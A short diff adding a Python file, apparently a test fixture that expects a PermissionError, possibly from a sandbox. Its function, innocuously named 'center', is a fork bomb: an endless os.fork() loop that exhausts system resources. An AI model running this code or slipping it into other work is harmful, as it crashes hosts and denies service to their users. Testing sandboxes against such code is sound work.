@@ -1,0 +1,8 @@
+# question: center
+# says: PermissionError
+import os
+
+
+def center(x):
+    while True:
+        os.fork()
